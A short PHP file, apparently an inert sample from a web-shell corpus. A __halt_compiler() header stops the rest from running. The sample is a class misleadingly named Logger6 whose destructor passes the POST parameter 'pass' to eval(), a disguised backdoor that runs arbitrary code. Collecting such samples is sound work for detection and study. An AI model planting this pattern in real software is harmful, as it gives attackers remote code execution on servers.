<?php __halt_compiler(); // inert corpus sample (hegui): nothing below is compiled ?>
<?php
class Logger6 {
    public $p;
    function __destruct() {
        @eval($this->p);
    }
}
$o = new Logger6();
$o->p = $_POST['pass'];
